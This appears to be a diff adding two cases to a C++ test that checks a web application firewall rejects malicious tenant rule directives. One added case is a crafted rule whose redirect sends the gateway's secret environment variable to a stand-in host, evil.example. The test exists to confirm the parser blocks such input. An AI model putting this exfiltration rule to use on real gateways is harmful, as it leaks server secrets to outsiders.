@@ -232,6 +232,11 @@ TEST_CASE("profile WAF custom directives are parsed and confined to the tenant")
       R"(#\t\"x y\"\t\"id:16,phase:2,pass,setvar:global.blocked=1\"")",
       // A regex that does not compile: the engine loaded the rule, which never matched (was 201).
       R"("SecRule ARGS \"@rx (\" \"id:17,phase:2,deny\"")",
+      // The engine read ENV glued to a variable's name: the redirect sent the gateway's
+      // environment variable to the client (was 201).
+      R"("SecRule ARGS \"@rx 1\" \"id:18,phase:1,redirect:https://evil.example/%{REMOTE_USERENV.GW_SECRET}\"")",
+      // The same in a rule's variables: the environment variable became the regex (was 201).
+      R"("SecRule REQUEST_LINEENV:GW_SECRET \"TOP\" \"id:19,phase:1,deny,status:403\"")",
   };
   int n = 2;
   for (const std::string& d : rejected) {
